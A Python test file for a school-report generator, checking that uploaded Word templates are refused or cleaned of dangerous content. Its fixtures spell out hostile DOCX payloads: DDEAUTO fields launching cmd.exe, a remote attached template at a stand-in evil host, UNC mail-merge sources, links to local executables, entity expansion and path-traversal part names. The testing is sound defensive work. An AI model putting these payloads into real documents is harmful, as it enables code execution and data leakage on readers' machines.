"""What a stranger's document brings along is found in whatever part it stands, and is in no report."""

import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO

import docx
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn

from bot.reports.docx_parts import odd_fields
from bot.reports.school_package import ELEMENTS_LIMIT, MARKUP_LIMIT, Flaw, Problem, package_problem
from bot.reports.school_report import Kind, report_docx
from bot.reports.school_template import check_template, sample
from tests.bot.reports.test_school_report import MADE_AT, text_of
from tests.bot.reports.test_school_template import (
    OUTSIDE,
    RELATIONS,
    TYPES,
    saved,
    template,
    with_part,
    with_relation,
    with_word_field,
    with_words,
)

Change = Callable[[str, bytes], tuple[str, bytes]]
EVIL = "evil.example"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
RELATION_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end"))
PAGE, DDE = (f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in (" PAGE ", "DDEAUTO c:\\\\cmd.exe"))
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
CHOICE = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'


def repacked(content: bytes, change: Change) -> bytes:
    """The file with each part under the name and with the contents that `change` gives it."""
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            new.writestr(*change(one, old.read(one)))
    return buffer.getvalue()


def moved(content: bytes, folder: str) -> bytes:
    """The file with its parts in another folder, where every reader finds them by relations."""

    def change(name: str, part: bytes) -> tuple[str, bytes]:
        if name in {TYPES, "_rels/.rels"}:
            part = re.sub(rb'(?<=["/])word/', folder.encode() + b"/", part)
        return re.sub("^word/", f"{folder}/", name), part

    return repacked(content, change)


def attached(place: str) -> bytes:
    """A template whose editor had one of its own."""
    document = docx.Document(BytesIO(template("{{ school }}")))
    settings = next(part for part in document.part.package.iter_parts() if part.partname.endswith("/settings.xml"))
    named = OxmlElement("w:attachedTemplate")
    named.set(qn("r:id"), settings.relate_to(place, f"{RELATION_KINDS}attachedTemplate", is_external=True))
    settings.element.append(named)
    return saved(document)


def with_body(inside: str) -> bytes:
    """A template with a paragraph of this markup."""
    document = docx.Document(BytesIO(template("{{ school }}")))
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')} {VML}>{inside}</w:p>"))
    return saved(document)


def with_settings(words: str) -> bytes:
    return with_words("word/settings.xml", "</w:settings>", f"{words}</w:settings>")


def renamed(name: str, part: bytes) -> tuple[str, bytes]:
    """The settings under a name of their own."""
    if name in {TYPES, RELATIONS}:
        part = part.replace(b"settings.xml", b"odd.xml").replace(b"webodd.xml", b"webSettings.xml")
    return name.replace("word/settings.xml", "word/odd.xml").replace("_rels/settings.xml", "_rels/odd.xml"), part


def refused(content: bytes) -> list[Flaw]:
    return [one.flaw for one in check_template(content, Kind.YEAR)]


def test_the_template_of_the_editor_is_forgotten_whatever_its_part_is_called() -> None:
    plain = attached(f"http://{EVIL}/x.dotm")
    for name, content in (
        ("as usual", plain),
        ("settings of another name", repacked(plain, renamed)),
        ("another folder", moved(plain, "doc")),
    ):
        assert refused(content) == [], name
        made = report_docx(content, sample(Kind.YEAR), MADE_AT)
        with zipfile.ZipFile(BytesIO(made)) as archive:
            parts = {one: archive.read(one) for one in archive.namelist()}
        assert [one for one, part in parts.items() if EVIL.encode() in part] == [], name
        assert not any(b"attachedTemplate" in part for part in parts.values()), name
        assert package_problem(made) is None, name


def test_a_field_of_word_is_read_in_every_part() -> None:
    bad = with_word_field('DDEAUTO c:\\\\cmd.exe "/k calc"')
    assert refused(moved(bad, "doc")) == [Flaw.OUTSIDE]
    assert refused(moved(with_word_field(" PAGE "), "doc")) == []
    document = docx.Document(BytesIO(template("{{ school }}")))
    document.sections[0].footer.paragraphs[0]._p.extend(
        parse_xml(f"<w:p {nsdecls('w')}>{BEGIN}{DDE}{END}</w:p>").getchildren()
    )

    def apart(name: str, part: bytes) -> tuple[str, bytes]:
        part = part.replace(b"/word/footer1.xml", b"/odd/one.xml") if name == TYPES else part
        part = part.replace(b'"footer1.xml"', b'"/odd/one.xml"') if name == RELATIONS else part
        return name.replace("word/footer1.xml", "odd/one.xml"), part

    assert refused(repacked(saved(document), apart)) == [Flaw.OUTSIDE]


def test_a_field_of_word_that_readers_may_read_differently_is_refused() -> None:
    fallback = f'{CHOICE}<mc:Choice Requires="w99">{PAGE}</mc:Choice><mc:Fallback>{DDE}</mc:Fallback>'
    cases = [
        ("its word depends on the reader", f"{BEGIN}{fallback}</mc:AlternateContent>{END}"),
        ("a field within the code", f"{BEGIN}{PAGE}{BEGIN}{PAGE}{END}{END}"),
        ("code behind the code", f"{BEGIN}{PAGE}{SEPARATE}{DDE}{END}"),
        ("code without a field", DDE),
        ("a field without an end", f"{BEGIN}{PAGE}"),
        ("code that was struck out", f"{BEGIN}<w:r><w:delInstrText>PAGE</w:delInstrText></w:r>{END}"),
        ("code among the words", f"{BEGIN}<w:r><w:t>DDEAUTO c:</w:t></w:r>{PAGE}{END}"),
        ("a remark in its word", f"{BEGIN}{PAGE.replace(' PAGE ', 'PAGE<!-- -->X')}{END}"),
        ("a code that is filled in", f"{BEGIN}{PAGE}<w:r><w:t>{{%r if school %}}</w:t></w:r>{DDE}{END}"),
        ("a simple field", '<w:fldSimple w:instr="IMPORT x.png"/>'),
        ("a quotation", f"{BEGIN}{PAGE.replace('PAGE', 'QUOTE 68 68 69')}{END}"),
        ("a link to a disk", '<w:fldSimple w:instr="HYPERLINK \\o &quot;a&quot; &quot;file://x/a.exe&quot;"/>'),
    ]
    for name, inside in cases:
        assert refused(with_body(inside)) == [Flaw.OUTSIDE], name
    nested = f"{BEGIN}{PAGE.replace('PAGE', 'TOC')}{SEPARATE}{BEGIN}{PAGE}{SEPARATE}<w:r><w:t>1</w:t></w:r>{END}{END}"
    for name, inside in (
        ("a table of contents", nested),
        ("a site", '<w:fldSimple w:instr="HYPERLINK &quot;https://school.example&quot; \\o &quot;a b&quot;"/>'),
        ("a place in the document", '<w:fldSimple w:instr="HYPERLINK \\l &quot;one&quot;"/>'),
    ):
        assert refused(with_body(inside)) == [], name


def test_a_field_that_only_a_filled_in_report_shows_is_not_in_it() -> None:
    """The library drops the whole paragraph that «{%p if %}» stands in, and with it the beginning of a code."""
    document = docx.Document(BytesIO(template("{{ school }}")))
    dropped = f"{PAGE}{SEPARATE}<w:r><w:t>{{%p if school %}}</w:t></w:r>"
    ending = "<w:r><w:t>{%p endif %}</w:t></w:r>"
    for inside in (BEGIN, dropped, ending, f"<w:r><w:t>DDEAUTO</w:t></w:r>{END}"):
        document.element.body.insert_element_before(parse_xml(f"<w:p {nsdecls('w')}>{inside}</w:p>"), "w:sectPr")
    content = saved(document)
    assert refused(content) == []
    made = docx.Document(BytesIO(report_docx(content, sample(Kind.YEAR), MADE_AT)))
    assert "DDEAUTO" in made.paragraphs[-1].text
    assert list(odd_fields(made.element)) == []


def test_what_names_something_without_a_relation_is_refused() -> None:
    merge = f'<w:mailMerge><w:connectString w:val="Data Source=\\\\{EVIL}\\a.mdb"/></w:mailMerge>'
    library = f'<x:schemaLibrary xmlns:x="y"><x:schema x:manifestLocation="http://{EVIL}/a.xml"/></x:schemaLibrary>'
    cases = [
        ("a database", with_settings(merge), "mailmerge"),
        ("a smart document", with_settings(library), "manifestlocation"),
        ("a picture by its address", with_body(f'<w:pict><v:imagedata src="//{EVIL}/a.png"/></w:pict>'), "src"),
        ("a shape that starts a program", with_body('<w:pict><v:rect href="file:///c:/a.exe"/></w:pict>'), "href"),
        ("a film", with_body('<x:webVideoPr xmlns:x="y" embeddedHtml="&lt;iframe/&gt;"/>'), "webvideopr"),
        ("a control", with_body('<w:control w:name="a"/>'), "control"),
        ("a relation without a word", with_relation("", "a.bin", ""), "?"),
    ]
    for name, content, words in cases:
        assert check_template(content, Kind.YEAR)[:1] == [Problem(Flaw.OUTSIDE, words)], name


def test_only_the_types_and_names_of_a_plain_document_are_let_in() -> None:
    good = template("{{ school }}")
    twice = BytesIO(good)
    with zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("Word/Document.xml", b"<a/>")
    entities = b'<!DOCTYPE a [<!ENTITY b "DDEAUTO">]><a>&b;</a>'
    ole = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    cases = [
        ("a part twice", twice.getvalue(), Flaw.TYPE),
        ("a way out", with_part(good, "word/../../a.xml", b"<a/>"), Flaw.TYPE),
        ("the other way out", with_part(good, "word\\a.xml", b"<a/>"), Flaw.TYPE),
        ("entities", with_part(good, "word/a.xml", entities), Flaw.TYPE),
        ("two types", with_words(TYPES, "</Types>", '<Default Extension="xml" ContentType="x/y"/></Types>'), Flaw.TYPE),
        ("the other syntax", with_part(good, "a.xml", b'<a xmlns="http://purl.oclc.org/ooxml/x"/>'), Flaw.TYPE),
        ("no type", with_part(good, "word/a.exe", b"MZ"), Flaw.OUTSIDE),
        ("an object", with_part(with_words(TYPES, "</Types>", f"{ole}</Types>"), "word/a.bin", b"x"), Flaw.OUTSIDE),
        ("a picture that is a part", with_part(good, "word/media/a.jpeg", b"<w/>"), Flaw.OUTSIDE),
        ("letters of a link", with_relation("font", "https://evil.example/a.ttf", OUTSIDE), Flaw.OUTSIDE),
        ("long markup", with_part(good, "a.xml", b"<a>" + b" " * MARKUP_LIMIT + b"</a>"), Flaw.SIZE),
        ("many elements", with_part(good, "a.xml", b"<a>" + b"<b/>" * ELEMENTS_LIMIT + b"</a>"), Flaw.SIZE),
    ]
    for name, content, flaw in cases:
        assert refused(content) == [flaw], name


def test_loops_over_nothing_leave_a_document_that_word_opens() -> None:
    document = docx.Document(BytesIO(template("{{ school }}")))
    table = document.add_table(rows=3, cols=1)
    for row, words in zip(table.rows, ("{%tr for one in gaps %}", "{{ one.text }}", "{%tr endfor %}"), strict=True):
        row.cells[0].text = words
    cell = document.add_table(rows=1, cols=1).rows[0].cells[0]
    cell.text = "{%p if gaps %}"
    cell.add_paragraph("{%p endif %}")
    header = document.sections[0].header
    header.paragraphs[0].text = "{%p if gaps %}"
    header.add_paragraph("{%p endif %}")
    content = saved(document)
    assert refused(content) == []
    paper = sample(Kind.YEAR)
    assert text_of(report_docx(content, paper, MADE_AT)).count("gaps.text <&>") == 2
    made = docx.Document(BytesIO(report_docx(content, replace(paper, gaps=()), MADE_AT)))
    assert [len(one.rows) for one in made.tables] == [1]
    assert len(made.tables[0].rows[0].cells[0].paragraphs) == 1
    assert len(made.sections[0].header.paragraphs) == 1


def test_what_only_the_template_had_is_in_no_report() -> None:
    """Data that Word would put in the place of what was filled in, letters and pictures of the file itself."""
    bound = (
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr>'
        "<w:sdtContent><w:r><w:t>{{ year }}</w:t></w:r></w:sdtContent></w:sdt>"
    )
    content = with_body(bound)
    letters = '<w:font w:name="Own"><w:embedRegular r:id="rId7"/></w:font></w:fonts>'
    with zipfile.ZipFile(BytesIO(content)) as archive:
        assert {"customXml/item1.xml", "docProps/thumbnail.jpeg"} <= set(archive.namelist())
        fonts = archive.read("word/fontTable.xml").decode()
        types = archive.read(TYPES).decode()
    kind = RELATION_KINDS + "font"
    relations = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId7" Type="{kind}" Target="a.odttf"/></Relationships>'
    )
    own = '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
    for name, part in (
        ("word/fontTable.xml", fonts.replace("</w:fonts>", letters)),
        ("word/_rels/fontTable.xml.rels", relations),
        ("word/a.odttf", "letters"),
        (TYPES, types.replace("</Types>", f"{own}</Types>")),
    ):
        content = with_part(content, name, part.encode())
    assert refused(content) == []
    with zipfile.ZipFile(BytesIO(report_docx(content, sample(Kind.YEAR), MADE_AT))) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    assert not any(name.startswith("customXml/") or name.endswith((".jpeg", ".odttf")) for name in parts)
    assert not any(b"dataBinding" in part or b"embedRegular" in part for part in parts.values())
    assert b"year &lt;&amp;&gt;" in parts["word/document.xml"]
